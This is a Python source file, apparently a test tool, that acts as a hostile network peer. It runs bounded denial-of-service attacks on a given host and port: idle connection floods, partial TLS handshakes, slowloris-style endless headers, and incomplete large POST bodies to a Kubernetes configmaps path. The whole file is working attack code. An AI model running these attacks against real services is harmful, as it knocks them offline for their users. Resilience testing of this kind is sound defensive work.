# SPDX-License-Identifier: GPL-2.0-or-later
"""A hostile peer, as a program: it attacks one address for some seconds and then tells what happened.

    attack.py KIND HOST PORT COUNT SECONDS

idle       COUNT connections that say nothing; those that are closed are opened again
handshake  the same, each with the first bytes of a TLS handshake
slow       COUNT heads that never end, a few bytes at a time, over TLS
bodies     COUNT connections, over TLS, each with a body of 3 MiB that lacks its last byte
chunks     the same, chunked

All loops are bounded by COUNT and SECONDS.  The result is a line of JSON.
"""
import json
import resource
import selectors
import socket
import ssl
import sys
import time

HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(40)
BODY = b"x" * (3 << 20)
POST = b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"


class Attack:
    def __init__(self, host, port, count, seconds):
        self.address, self.count = (host, port), count
        self.until = time.monotonic() + seconds
        self.opened = self.closed = 0
        self.codes = {}

    def over(self):
        return time.monotonic() > self.until

    def connect(self):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(self.address)
        self.opened += 1
        return s

    def flood(self, greeting):
        """Keep COUNT connections open, none of which gets anywhere."""
        with selectors.DefaultSelector() as sel:
            while not self.over() and self.opened < self.count:
                s = self.connect()
                sel.register(s, selectors.EVENT_READ)
                if greeting:
                    self._send_later(s, greeting)
                if self.opened % 200 == 0:
                    self._reap(sel, 0)
            while not self.over():
                self._reap(sel, 0.1)

    @staticmethod
    def _send_later(s, data):
        try:
            s.send(data)
        except OSError:
            pass

    def _reap(self, sel, wait):
        for key, _ in sel.select(wait):
            try:
                ended = not key.fileobj.recv(4096)
            except BlockingIOError:
                ended = False
            except OSError:
                ended = True
            if ended:
                self.closed += 1
                sel.unregister(key.fileobj)
                key.fileobj.close()

    def secure(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        plain = socket.create_connection(self.address, timeout=5)
        self.opened += 1
        try:
            return context.wrap_socket(plain)
        except OSError:
            plain.close()
            raise

    def slow(self):
        """Heads that grow by 4 KiB a round and never end."""
        conns = []
        while not self.over():
            while len(conns) < self.count and not self.over():
                try:
                    conns.append(self.secure())
                    conns[-1].sendall(b"GET / HTTP/1.1\r\n")
                except OSError:
                    self.closed += 1
                    break
            for s in conns[:]:
                try:
                    s.settimeout(0.5)
                    s.sendall(b"X-Slow: " + b"y" * 4000 + b"\r\n")
                except OSError:
                    conns.remove(s)
                    s.close()
                    self.closed += 1
            time.sleep(0.05)

    def bodies(self, head, body):
        conns = []
        for _ in range(self.count):
            if self.over():
                break
            try:
                s = self.secure()
                s.settimeout(2)
                conns.append(s)
                s.sendall(head)
                s.sendall(body)
            except OSError:
                self.closed += 1
        for s in conns:
            self._note_answer(s)
        while not self.over():
            time.sleep(0.05)

    def _note_answer(self, s):
        try:
            line = s.recv(64).split(b" ")
            code = line[1].decode() if len(line) > 1 else "none"
        except OSError:
            code = "none"
        self.codes[code] = self.codes.get(code, 0) + 1


def main():
    kind, host, port, count, seconds = sys.argv[1:6]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    a = Attack(host, int(port), int(count), float(seconds))
    if kind == "slow":
        a.slow()
    elif kind == "bodies":
        a.bodies(POST + b"Content-Length: %d\r\n\r\n" % (len(BODY) + 1), BODY)
    elif kind == "chunks":
        a.bodies(POST + b"Transfer-Encoding: chunked\r\n\r\n", b"%x\r\n" % len(BODY) + BODY)
    else:
        a.flood(HELLO if kind == "handshake" else b"")
    print(json.dumps({"opened": a.opened, "closed": a.closed, "codes": a.codes}))


if __name__ == "__main__":
    main()
